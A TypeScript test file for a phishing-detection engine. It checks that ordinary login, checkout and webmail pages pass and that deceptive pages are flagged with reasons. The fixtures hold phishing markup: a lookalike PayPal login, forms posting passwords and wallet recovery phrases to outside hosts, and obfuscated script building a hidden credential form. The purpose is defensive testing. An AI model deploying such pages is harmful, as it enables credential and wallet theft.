import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { test, type TestContext } from 'node:test';
import { canonicalUrl } from '../../protocols/url/index.ts';
import { loadConfig } from '../config/index.ts';
import { Egress, egressMetrics } from '../egress/index.ts';
import { createPredictor, createSitePredictor } from '../prediction/index.ts';
import { createMetrics } from '../telemetry/index.ts';
import { createInspection, inspectionMetrics, type Inspected } from './index.ts';

const SILENT = { debug() {}, info() {}, warn() {}, error() {} };

/** The engine with the shipped models; pages come from the test, or over loopback. */
function open(t: TestContext, ports: readonly number[] = [443]) {
  const config = loadConfig({ flags: {}, environment: {}, checkout: undefined, cores: 1 });
  const clock = { now: () => Date.UTC(2026, 0, 2), monotonic: () => performance.now() };
  const metrics = createMetrics([...egressMetrics, ...inspectionMetrics]);
  const egress = new Egress({
    config: { ...config.egress, allowDestinations: ['127.0.0.0/8'] },
    parents: [],
    clock,
    log: SILENT,
    metrics,
    own: [],
    machine: [],
  });
  t.after(() => egress.close());
  const predictor = createPredictor({ dataDir: '/nonexistent/sallyport', log: SILENT });
  const inspection = createInspection({
    config: { ...config.inspection, ports },
    sites: createSitePredictor(predictor),
    egress,
    clock,
    metrics,
  });
  return async (text: string, html?: string): Promise<Inspected> => {
    const url = canonicalUrl(text)!;
    const found = await inspection.inspect({ url, text, html, source: '192.0.2.1', hasToken: true });
    assert.ok(!('refused' in found));
    return found;
  };
}

/** What builders of sites put into every page: preloads, counters, consent, a script of theirs. */
const HEAD = `<meta charset="utf-8"><meta name="viewport" content="width=device-width"><link rel="preconnect" href="https://fonts.gstatic.com">
<link rel="stylesheet" href="/assets/app.8f3c1.css"><link rel="icon" href="/favicon.ico">
<script async src="https://www.googletagmanager.com/gtag/js?id=G-1"></script>
<script>window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments)}gtag('js',new Date());</script>`;
const TAGS = `<noscript><iframe src="https://www.googletagmanager.com/ns.html?id=GTM-1" height="0" width="0" style="display:none;visibility:hidden"></iframe></noscript>`;
const SVG = `data:image/svg+xml;base64,${Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>').toString('base64')}`;
/** As bundlers make it: short names, one line, escapes of letters beyond ASCII, a redirect behind a condition. */
const BUNDLE = `(()=>{"use strict";var e={812:(e,t,n)=>{n.d(t,{Z:()=>r});const r="\\u00e4\\u00f6\\u00fc"},31:e=>{e.exports=JSON.parse('{"a":1}')}},t={};function n(r){var o=t[r];if(void 0!==o)return o.exports;var i=t[r]={exports:{}};return e[r](i,i.exports,n),i.exports}n.d=(e,t)=>{for(var r in t)Object.defineProperty(e,r,{get:t[r]})};if(!self.fetch)location.href="https://update.example.org/old-browser";setTimeout(function(){self.ready=1},0)})();`;

const BENIGN: readonly (readonly [name: string, url: string, html: string])[] = [
  [
    'a bank at home, with a second factor and a notice of fraud',
    'https://www.sparkasse.de/de/home/login-online-banking.html',
    `<html lang=de><head>${HEAD}<title>Anmelden zum Online-Banking | Sparkasse</title><meta property="og:site_name" content="Sparkasse"></head>
    <body>${TAGS}<h1>Online-Banking</h1><p>Wir fragen nie nach Ihrer PIN per E-Mail.</p><form method=post action="/services/login" autocomplete=off>
    <input name=login><input type=password name=pin><input type=hidden name=csrf value=1><button>Anmelden</button></form>
    <form action="/suche"><input name=q></form><script>${BUNDLE}</script></body></html>`,
  ],
  [
    'a small bank that no list of brands knows',
    'https://banking.volksbank-musterstadt.de/services_auth/login',
    `<html><head>${HEAD}<title>Anmeldung - Volksbank Musterstadt eG</title></head><body><h1>Anmeldung</h1>
    <form method=post action="/services_auth/auth-ui/"><input name=netkey><input type=password name=pin></form><a href="https://www.bvr.de/">BVR</a></body></html>`,
  ],
  [
    'a single sign-on page that posts to its identity provider',
    'https://portal.acme-industries.com/sso',
    `<html><head>${HEAD}<title>Signing you in…</title></head><body onload="document.forms[0].submit()"><noscript><p>Press the button.</p></noscript>
    <form method=post action="https://login.microsoftonline.com/3f/saml2"><input type=hidden name=SAMLRequest value="PHNhbWw="><input type=hidden name=RelayState value=x><noscript><input type=submit></noscript></form></body></html>`,
  ],
  [
    'a login of a company at a provider of identities',
    'https://acme-industries.okta.com/login/login.htm',
    `<html><head>${HEAD}<title>Acme Industries - Sign In</title></head><body><h1>Sign In</h1><form method=post action="/api/v1/authn"><input name=username><input type=password name=password></form>
    <a href="https://www.acme-industries.com/help">Help</a></body></html>`,
  ],
  [
    'a login that goes to the accounts of the same house under another domain',
    'https://www.youtube.com/signin',
    `<html><head>${HEAD}<title>YouTube</title></head><body><form method=post action="https://accounts.google.com/v3/signin"><input type=email name=identifier><input type=password name=Passwd></form></body></html>`,
  ],
  [
    'a checkout with the frame of a payment provider',
    'https://shop.gartenfreund-example.com/checkout/payment',
    `<html><head>${HEAD}<title>Kasse – Gartenfreund</title><script src="https://js.stripe.com/v3/"></script></head><body>${TAGS}<h1>Bezahlen</h1>
    <form method=post action="/checkout/confirm"><input name=email><div id=card></div></form>
    <iframe name="__privateStripeFrame1" frameborder=0 allow="payment *" src="https://js.stripe.com/v3/elements-inner-card.html" style="width:100%;height:19px"></iframe>
    <iframe name="__privateStripeMetricsController" src="https://m.stripe.network/inner.html" aria-hidden=true style="position:absolute;left:-9999px;height:1px"></iframe>
    <iframe name="__privateStripeController" src="https://js.stripe.com/v3/controller.html" aria-hidden=true tabindex=-1 style="display:none"></iframe>
    <img src="https://www.paypalobjects.com/webstatic/pp-logo.png" alt=PayPal></body></html>`,
  ],
  [
    'an application of one page with its pictures inside',
    'https://app.kanban-example.io/',
    `<html><head>${HEAD}<title>Kanban</title><link rel=icon href="${SVG}"></head><body><div id=root></div><img src="${SVG}"><object type="image/svg+xml" data="${SVG}"></object>
    <a download=board.svg href="${SVG}">Export</a><script>${BUNDLE.repeat(20)}</script></body></html>`,
  ],
  [
    'a newspaper with frames of advertisers and a paywall',
    'https://www.tagesanzeiger-example.net/politik/artikel-1',
    `<html><head>${HEAD}<title>PayPal erhöht die Gebühren - Tagesanzeiger</title></head><body>${TAGS}<h1>PayPal erhöht die Gebühren</h1>${'<p>Text <a href="https://source.example/">Quelle</a></p>'.repeat(40)}
    ${Array.from({ length: 12 }, (_, at) => `<iframe src="https://ads${at}.doubleclick.net/x" width=300 height=250></iframe>`).join('')}
    <iframe src="https://cdn.consentmanager.net/delivery/" style="display:none"></iframe><iframe src="https://ib.adnxs.com/sync" width=1 height=1></iframe>
    <form method=post action="https://login.tagesanzeiger-example.net/in"><input name=mail><input type=password name=pw></form><script>${BUNDLE.repeat(5)}</script></body></html>`,
  ],
  [
    'webmail of a provider',
    'https://webmail.provider-example.com/roundcube/',
    `<html><head><title>Roundcube Webmail :: Welcome to Roundcube Webmail</title><link rel="shortcut icon" href="skins/elastic/images/favicon.ico"></head><body>
    <form name=login-form method=post action="./?_task=login"><input type=hidden name=_token value=1><input name=_user><input type=password name=_pass></form><script>rcmail.init()</script></body></html>`,
  ],
  [
    'the Outlook of a company on its own server',
    'https://mail.acme-industries.com/owa/auth/logon.aspx',
    `<html><head><title>Outlook</title><link rel="shortcut icon" href="/owa/auth/15.2/themes/resources/favicon.ico"></head><body>
    <form action="/owa/auth.owa" method=POST name=logonForm><input name=username><input name=password type=password></form></body></html>`,
  ],
  [
    'a router of the house',
    'http://192.168.178.1/login.lua',
    `<html><head><title>FRITZ!Box</title></head><body><h1>Willkommen bei Ihrer FRITZ!Box</h1><form method=post action="/login.lua"><input type=password name=uiPass></form></body></html>`,
  ],
];

const BAD: readonly (readonly [
  name: string,
  url: string,
  html: string,
  verdict: 'suspicious' | 'malicious',
  reasons: readonly string[],
])[] = [
  [
    'a brand on a domain that looks like its own',
    'https://www.paypa1-secure.com/signin',
    `<html><head><title>Log in to your PayPal account</title><link rel=icon href="https://www.paypalobjects.com/favicon.ico"></head><body><h1>PayPal</h1>
    <form method=post action="/login.php"><input type=email name=login_email><input type=password name=login_password></form></body></html>`,
    'malicious',
    ['brand-asks'],
  ],
  [
    'credentials that a form without script sends to another domain',
    'https://mailbox-quota-upgrade.com/',
    `<html><head><title>Mailbox quota exceeded</title></head><body><h1>Your mailbox is full</h1><form method=post action="https://formsubmit-collector.net/x/save">
    <input type=email name=email><input type=password name=password><button>Keep my account</button></form></body></html>`,
    'suspicious',
    ['form-elsewhere'],
  ],
  [
    'a script that hides the form it builds',
    'https://docs-share-viewer.com/d/1',
    `<html><head><title>Shared document</title></head><body><div id=v></div><script>var _0x1f2a=['${'_0x'.repeat(30)}'];document.write(unescape("${Buffer.from('<form action="https://drop.example.net/p"><input type=password name=p></form>').toString('hex').replaceAll(/../g, '%$&')}"));eval(atob("YQ=="))</script></body></html>`,
    'suspicious',
    ['script-written-unescaped', 'script-decode-and-run', 'script-renamed', 'script-hides-form'],
  ],
  [
    'a page inside a data: URI, reached from a bare page',
    'https://cdn-file-preview.com/v',
    `<html><head><meta http-equiv=refresh content="0;url=data:text/html;base64,${Buffer.from('<form action="https://x.example.net/"><input type=password name=p></form>').toString('base64')}"></head><body></body></html>`,
    'suspicious',
    ['data-document', 'redirect', 'data-form'],
  ],
  [
    'a name in letters of another script',
    'https://www.xn--pypal-4ve.com/',
    `<html><head><title>PayPal: Log in</title></head><body><form method=post action="/in"><input name=email><input type=password name=password></form></body></html>`,
    'malicious',
    ['brand-asks'],
  ],
  [
    'a hidden frame of another site, a renamed script and a way on to a third',
    'https://free-movie-stream-hd.com/watch',
    `<html><head><title>Loading…</title></head><body><iframe src="https://exploit-kit.example.net/gate" width=1 height=1 style="visibility:hidden"></iframe>
    <script>${'var _0x1a2b=1;'.repeat(30)}</script><script>window.location.replace("https://lander.example.org/go")</script></body></html>`,
    'suspicious',
    ['hidden-frame', 'script-renamed', 'redirect'],
  ],
  [
    'the Outlook of nobody, on a place that anybody gets',
    'https://outlook-verify.web.app/',
    `<html><head><title>Outlook</title></head><body><form action="/x" method=POST><input name=username><input name=password type=password></form></body></html>`,
    'suspicious',
    ['brand-asks'],
  ],
  [
    'a wallet that wants to be recovered',
    'https://wallet-sync-dapp.com/connect',
    `<html><head><title>MetaMask - Restore wallet</title></head><body><h1>Secret Recovery Phrase</h1><form method=post action="https://api.telegram.org/bot1/sendMessage"><textarea name=recovery_phrase></textarea></form></body></html>`,
    'malicious',
    ['brand-asks', 'form-elsewhere', 'seed-phrase'],
  ],
];

test('pages as they really are: nobody is accused', async (t) => {
  const inspect = open(t);
  for (const [name, url, html] of BENIGN) {
    const { verdict, signs, score } = await inspect(url, html);
    const why = signs.map(({ code, points }) => `${code} ${points}`).join(', ');
    assert.equal(verdict, 'clean', `${name}: ${score}: ${why}`);
  }
});

test('pages that deceive: what they are, and why', async (t) => {
  const inspect = open(t);
  for (const [name, url, html, expected, codes] of BAD) {
    const { verdict, signs, score } = await inspect(url, html);
    const found = signs.map(({ code }) => code);
    const why = `${name}: ${score}: ${signs.map(({ code, points }) => `${code} ${points}`).join(', ')}`;
    const isEnough = verdict === expected || (expected === 'suspicious' && verdict === 'malicious');
    assert.ok(isEnough, `${verdict} ${why}`);
    for (const code of codes) assert.ok(found.includes(code), `${code} is missing: ${why}`);
  }
});

test('a chain through other sites is told with its stations', async (t) => {
  const ports: number[] = [];
  const places: string[] = [];
  const serve = async (address: string): Promise<void> => {
    const at = ports.length;
    const server = createServer((_request, response) => {
      const next = places[at - 1];
      if (next !== undefined) response.writeHead(302, { Location: next }).end();
      else
        response
          .writeHead(200, { 'Content-Type': 'text/html' })
          .end('<title>x</title><iframe src="https://gate.example.net/" width=0 height=0></iframe>');
    });
    await new Promise<void>((resolve) => server.listen(0, address, resolve));
    t.after(() => {
      server.closeAllConnections();
      server.close();
    });
    // A server that listens on an address has one.
    const { port } = server.address() as AddressInfo;
    ports.push(port);
    places.push(`http://${address}:${port}/`);
  };
  for (const address of ['127.0.0.1', '127.0.0.2', '127.0.0.3']) await serve(address);
  const { signs, fetch } = await open(t, ports)(places.at(-1)!);
  assert.equal(fetch?.kind, 'page');
  assert.deepEqual(fetch?.hops, places.toReversed());
  const chain = signs.find(({ code }) => code === 'redirect-chain');
  assert.match(chain?.text ?? '', /through 2 other sites: 127\.0\.0\.3 → 127\.0\.0\.2 → 127\.0\.0\.1/);
  assert.ok(signs.some(({ code }) => code === 'hidden-frame'));
});
